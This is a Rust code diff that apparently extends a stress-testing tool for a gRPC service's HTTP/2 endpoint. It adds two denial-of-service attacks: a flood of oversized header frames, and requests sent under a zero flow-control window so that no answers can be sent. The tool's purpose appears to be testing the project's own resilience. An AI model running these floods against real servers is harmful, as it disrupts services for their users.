@@ -48,6 +48,10 @@ pub(crate) enum Attack {
     DeafWatchers,
     /// Calls with large answers that may be sent at once, and that nobody reads.
     UnreadAnswers,
+    /// Calls with as many headers as there may be, whose requests don't come.
+    HeldHeaders,
+    /// Streams of requests that aren't read, as nobody reads their answers.
+    UnreadRequests,
     /// What a page of another site can make a browser send.
     Forms,
     /// HTTP/1.1, with a body.
@@ -68,7 +72,7 @@ pub(crate) enum Attack {
     Searches,
 }
 
-pub(crate) const ALL: [Attack; 20] = [
+pub(crate) const ALL: [Attack; 22] = [
     Attack::RapidReset,
     Attack::ContinuationFlood,
     Attack::PingFlood,
@@ -80,6 +84,8 @@ pub(crate) const ALL: [Attack; 20] = [
     Attack::LargeMessages,
     Attack::DeafWatchers,
     Attack::UnreadAnswers,
+    Attack::HeldHeaders,
+    Attack::UnreadRequests,
     Attack::Forms,
     Attack::Http1,
     Attack::FutureRevisions,
@@ -108,8 +114,8 @@ impl Attack {
         let connections = match self {
             Self::HalfOpen => return half_open(target, end).await,
             Self::IdleConnections => return idle_connections(target, end).await,
-            Self::SlowHeaders | Self::HealthWatches => 200,
-            Self::SlowBodies | Self::DeafWatchers | Self::UnreadAnswers => 8,
+            Self::SlowHeaders | Self::HealthWatches | Self::UnreadRequests => 200,
+            Self::SlowBodies | Self::DeafWatchers | Self::UnreadAnswers | Self::HeldHeaders => 8,
             _ => 4,
         };
         let mut attackers = JoinSet::new();
@@ -252,6 +258,29 @@ impl Attack {
                     stream.write_all(&frames).await?;
                 }
                 sleep(pace.max(Duration::from_millis(300))).await;
+            }
+            Self::HeldHeaders => {
+                for id in (1..2000).step_by(2) {
+                    // Empty ones, of a byte each: the table has one of them (RFC 7541, appendix A, 23).
+                    let mut headers = call(if id % 4 == 1 { "CreateGroup" } else { "Check" });
+                    headers.extend([0x80 | 23; 400]);
+                    stream
+                        .write_all(&frame(HEADERS, END_HEADERS, id, &headers))
+                        .await?;
+                }
+                sleep(Duration::from_secs(5)).await;
+            }
+            Self::UnreadRequests => {
+                // No window: no answer may be sent.
+                stream
+                    .write_all(&frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]))
+                    .await?;
+                let question = message(
+                    false,
+                    &[b"\x0a\x80\x40", &[b'x'; 8192][..], b"\x3a\0"].concat(),
+                );
+                let calls = [(call("ServerReflectionInfo"), question.repeat(200))];
+                upload(stream, pace, &calls, 0).await?;
             }
             Self::Forms => {
                 let (mut reading, mut writing) = stream.into_split();
@@ -503,7 +532,7 @@ fn headers(rpc: &str, content_type: &[u8]) -> Vec<u8> {
     let service = match rpc {
         "CheckAccess" | "BatchCheckAccess" => "groups.v1.AccessService",
         "WatchChanges" => "groups.v1.ChangeService",
-        "Watch" => "grpc.health.v1.Health",
+        "Watch" | "Check" => "grpc.health.v1.Health",
         "ListUsers" => "groups.v1.UserService",
         "ServerReflectionInfo" => "grpc.reflection.v1.ServerReflection",
         _ => "groups.v1.GroupService",
